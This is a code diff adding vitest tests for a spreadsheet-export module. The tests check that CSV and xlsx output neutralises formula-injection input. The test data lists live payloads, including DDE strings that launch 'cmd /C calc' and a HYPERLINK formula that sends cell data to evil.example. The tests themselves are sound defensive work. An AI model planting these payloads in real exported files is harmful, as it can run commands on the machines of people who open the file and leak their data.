@@ -1,7 +1,14 @@
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { collectPages, exportCells, toCsv, toXlsx, type ExportColumn } from '../../src-renderer/lib/export';
+import {
+  collectPages,
+  exportCells,
+  FORMULA_CELL,
+  toCsv,
+  toXlsx,
+  type ExportColumn,
+} from '../../src-renderer/lib/export';
 
 interface Row {
   code: string;
@@ -69,5 +76,104 @@ describe('exporting a table', () => {
     expect(got).toEqual(all);
     expect(asked).toEqual([1, 2, 3]);
     expect(progress).toEqual([200, 400, 450]);
+  });
+});
+
+/** The classic CSV-injection payloads, and a few more that slip past a pattern with `.*$`. */
+const payloads = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=1+1\n第二行',
+  '+86 138-0013-8000 x',
+];
+
+interface Cell {
+  text: string | number;
+}
+const one: ExportColumn<Cell>[] = [{ title: '内容', value: (r) => r.text }];
+
+describe('exporting text a spreadsheet would run', () => {
+  it('writes each formula payload to CSV as text: an apostrophe first, in quotes', () => {
+    const csv = toCsv(
+      one,
+      payloads.map((text) => ({ text })),
+    );
+    const cells = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' })
+      .data.slice(1)
+      .map((r) => r[0]);
+    expect(cells).toEqual(payloads.map((p) => `'${p}`));
+    for (const p of payloads) expect(csv).toContain(`"'${p.replace(/"/g, '""')}"`);
+  });
+
+  it('leaves numbers, signed figures as text, ordinary text and Chinese exactly as they are', () => {
+    const plain: (string | number)[] = [
+      -5,
+      0,
+      12.5,
+      '-5',
+      '+3.5%',
+      '-1,234.50',
+      '-12.5%',
+      '北京华信科技有限公司',
+      'a=b',
+      "O'Brien",
+      ' 5',
+    ];
+    const csv = toCsv(
+      one,
+      plain.map((text) => ({ text })),
+    );
+    expect(csv.split('\r\n').slice(1, 8)).toEqual([
+      '-5',
+      '0',
+      '12.5',
+      '-5',
+      '+3.5%',
+      '"-1,234.50"',
+      '-12.5%',
+    ]);
+    const cells = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' })
+      .data.slice(1)
+      .map((r) => r[0]);
+    expect(cells).toEqual(plain.map(String));
+    expect(csv.startsWith('\uFEFF内容\r\n')).toBe(true);
+  });
+
+  it('keeps the pattern to the start of the cell, on any line count', () => {
+    expect(FORMULA_CELL.test('=1')).toBe(true);
+    expect(FORMULA_CELL.test('x\n=1')).toBe(false);
+    expect(FORMULA_CELL.test('-')).toBe(true);
+    expect(FORMULA_CELL.test('-5')).toBe(false);
+    expect(FORMULA_CELL.test('-5-5')).toBe(true);
+  });
+
+  it('writes them to xlsx as plain text cells, never formulas, unchanged; numbers stay numbers', async () => {
+    const values: (string | number)[] = [...payloads, -5, '-5', '北京华信科技有限公司'];
+    const data = await toXlsx(
+      one,
+      values.map((text) => ({ text })),
+      '导出',
+    );
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(data);
+    const sheet = book.worksheets[0]!;
+    values.forEach((v, i) => {
+      const cell = sheet.getCell(i + 2, 1);
+      expect(cell.formula, String(v)).toBeUndefined();
+      expect(cell.type, String(v)).toBe(
+        typeof v === 'number' ? ExcelJS.ValueType.Number : ExcelJS.ValueType.String,
+      );
+      // XML reads a carriage return in text as a line feed; the cell stays text all the same.
+      expect(cell.value).toBe(typeof v === 'string' ? v.replace(/\r/g, '\n') : v);
+    });
   });
 });
